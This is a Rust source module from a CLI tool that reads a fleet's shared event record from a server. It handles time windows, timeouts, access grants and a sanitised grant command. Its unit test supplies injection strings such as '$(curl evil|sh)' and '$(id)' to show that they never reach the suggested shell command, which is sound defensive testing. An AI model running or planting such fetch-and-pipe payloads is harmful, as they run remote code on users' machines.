//! The record of the fleet, for `taut events`, `recall` and `stats --fleet`: what machines sent of theirs to the server that
//! they share. Asked only where somebody says so, and for ten seconds at most.

mod events;
mod stats;

pub use events::{FleetEvents, found_words, list};
pub use stats::show;

use super::reach::CallerReach;
use super::{effort, recall, stored};
use crate::error::CliError;
use crate::printer::{Printer, text};
use crate::{past_time, person, shared_queue};
use host::paths::PathVariables;
use model::Ms;
use policy::config::sections::QueueName;
use shared_store::{FleetServer, Patience, RecordProject, RecordQuery};
use std::path::Path;
use std::time::Duration;
use store::{ServerError, Store};

/// Ten seconds together, with a breath for the goodbye.
const PATIENCE: Patience = Patience { connect: Duration::from_millis(3_500), flight: Duration::from_secs(6) };

/// Where nobody says since when: more would be read for nothing.
const USUAL_DAYS: i64 = 7;
const DAY_MS: i64 = 86_400_000;

/// More are not listed at once.
const MOST_LISTED: usize = 1_000;

/// Where nobody answers, or not as one should.
const WAY: &str = "`taut shared connect` tries the way to it; without `--fleet` this machine's own record is shown";

/// What is asked of the record, and how far back.
#[derive(Debug, Clone, Default)]
pub struct FleetQuestion {
    pub query: RecordQuery,
    /// Whether nobody said since when.
    pub usual_days: bool,
}

impl FleetQuestion {
    /// Of the projects whose record is meant; `None` is all of them, for a person.
    pub fn of(command: &'static str, folder: Option<&Path>, limit: usize) -> Result<Self, CliError> {
        if limit > MOST_LISTED {
            return Err(CliError::usage(format!("of the fleet's record at most {MOST_LISTED} are listed at once"))
                .hint("`--since` and `--until` say of which time"));
        }
        let query = RecordQuery { projects: projects(command, folder)?, limit, ..RecordQuery::default() };
        Ok(Self { query, usual_days: false })
    }

    pub fn since(&mut self, since: Option<&str>, until: Option<&str>) -> Result<(), CliError> {
        let now = host::clock::now();
        let age = |text: &str, option| Ok::<_, CliError>(now.since(past_time::read(text, option)?).max(0));
        self.usual_days = since.is_none();
        self.query.until_age_ms = until.map(|until| age(until, "--until")).transpose()?;
        self.query.age_ms = Some(match since {
            Some(since) => age(since, "--since")?,
            None => self.query.until_age_ms.unwrap_or_default() + USUAL_DAYS * DAY_MS,
        });
        Ok(())
    }

    /// Asks the server, whoever it is.
    pub fn asked<T>(
        &self,
        ask: impl FnOnce(&mut FleetServer<'_>, &RecordQuery) -> Result<T, ServerError>,
    ) -> Result<T, CliError> {
        let places = PathVariables::from_process();
        let server = shared_queue::server(&places)?.ok_or_else(|| {
            CliError::failed("no server is configured, so machines share no record").hint(
                "`taut shared connect <url>` connects this machine to one; without `--fleet` its own record is shown",
            )
        })?;
        let connected = shared_queue::connect_within(&server, &places, PATIENCE);
        let (mut connection, schema) = connected.map_err(|error| error.hint(WAY))?;
        let answer = ask(&mut FleetServer::new(&mut connection, &schema), &self.query);
        answer.map_err(|error| CliError::failed(error.to_string()).hint(WAY))
    }

    /// What is true of an answer besides what is in it.
    ///
    /// # Errors
    /// Where none of what was asked for may be read.
    pub fn explain(&self, known: &[RecordProject], is_empty: bool, printer: &Printer) -> Result<(), CliError> {
        let closed: Vec<&RecordProject> = known.iter().filter(|one| !one.readable).collect();
        if let Some(first) = closed.first().filter(|_| closed.len() == known.len()) {
            return Err(not_granted(&first.role, &closed));
        }
        if let Some(first) = closed.first() {
            printer.note(text!("not shown: {}, whose record {} was not granted", named(&closed), first.role));
        }
        if is_empty {
            printer.note(self.nothing(known));
        } else if self.usual_days {
            printer.note(format!("of the last {USUAL_DAYS} days; `--since 30d` looks further back"));
        }
        Ok(())
    }

    fn nothing(&self, known: &[RecordProject]) -> String {
        let days = if self.usual_days { " within the last seven days" } else { "" };
        if known.is_empty() {
            return "the server has no record of this; machines send of theirs what `[shared] events` in their \
                    configuration says, which is nothing unless somebody chose it"
                .to_string();
        }
        format!(
            "nothing of the fleet's record is like that{days}; `--since 30d` looks further back, and machines send only what \
             `[shared] events` in their configuration says"
        )
    }
}

/// Nobody may read another project's record by having found the server.
fn not_granted(role: &str, closed: &[&RecordProject]) -> CliError {
    let project = closed.first().map(|one| one.project.as_str()).unwrap_or_default();
    let what = format!("the record of {} is not shown to {}: nobody granted it", named(closed), shown(role));
    CliError::failed(what).hint(format!("whoever owns the server's schema grants it: `{}`", grant(role, project)))
}

/// The command for it. Members of the team name projects, and whoever owns the schema is to copy this into a shell: only what
/// says nothing to one is put into it.
fn grant(role: &str, project: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '_' | '-' | '.');
    let role = if !role.is_empty() && role.chars().all(plain) { role } else { "<role>" };
    let project = if QueueName::accepts(project) { project } else { "<project>" };
    format!("taut shared migrate --grant {role}={project}")
}

fn named(projects: &[&RecordProject]) -> String {
    const MOST: usize = 5;
    let more = projects.len().saturating_sub(MOST);
    let names: Vec<String> = projects.iter().take(MOST).map(|one| shown(&one.project)).collect();
    if more > 0 { format!("{} and {more} more", names.join(", ")) } else { names.join(", ") }
}

/// A name of the server's, which is to look like no command of ours.
fn shown(name: &str) -> String {
    model::text::line(name, 100).replace('`', "'")
}

/// What the projects are called on the server. An agent's is its own.
fn projects(command: &str, folder: Option<&Path>) -> Result<Vec<String>, CliError> {
    let places = PathVariables::from_process();
    let store = stored()?;
    let root = match (reach(command, store.as_ref(), &places)?, folder) {
        (CallerReach::Everything, None) => return Ok(Vec::new()),
        (CallerReach::Everything, Some(folder)) => match &store {
            Some(store) => recall::named_root(folder, store, &places)?,
            None => host::probe::project(&std::path::absolute(folder)?, &places.home()).root,
        },
        (CallerReach::Project(root), _) => root,
        (CallerReach::Agent(_), _) => return Err(unknown_project()),
    };
    let settings = shared_queue::settings(&root, &places)?.ok_or_else(|| {
        CliError::failed(format!("{root} shares no queue on a server, so nothing of it is in the fleet's record"))
            .hint("`taut shared connect <url>` connects it; without `--fleet` this machine's own record is shown")
    })?;
    Ok(vec![settings.queue])
}

fn reach(command: &str, store: Option<&Store>, places: &PathVariables) -> Result<CallerReach, CliError> {
    match store {
        Some(store) => CallerReach::of(command, store, effort::who(store, places)?),
        None => person::outside_agents(command).map(|()| CallerReach::Everything).map_err(|_| unknown_project()),
    }
}

fn unknown_project() -> CliError {
    CliError::failed("an agent is shown the record of its own project, and the session of this one is in none")
        .hint("`taut doctor` says whether its hooks reach Taut; your own terminal shows the whole record")
}

/// A moment of another machine's clock, which may say anything.
fn moment(at: i64) -> Ms {
    const FARTHEST: i64 = 4_102_444_800_000;
    Ms(at.clamp(0, FARTHEST))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn x3_no_name_that_a_member_gave_to_a_project_or_a_role_becomes_part_of_the_command_that_helps() {
        let refused = |role: &str, project: &str| {
            let closed = RecordProject { project: project.into(), readable: false, role: role.into() };
            format!("{:?}", not_granted(role, &[&closed]))
        };
        let plain = refused("ada", "acme/shop");
        assert!(plain.contains("`taut shared migrate --grant ada=acme/shop`"), "{plain}");
        for project in ["$(curl evil|sh)", "x; curl evil|sh", "`curl evil|sh`", "a b", ""] {
            let said = refused("ada", project);
            assert!(said.contains("`taut shared migrate --grant ada=<project>`"), "{said}");
            assert!(!said.contains("`curl"), "{said}");
        }
        for role in ["$(id)", "a'b", "ada\n", "a b", ""] {
            let said = refused(role, "acme/shop");
            assert!(said.contains("`taut shared migrate --grant <role>=acme/shop`"), "{said}");
        }
    }
}
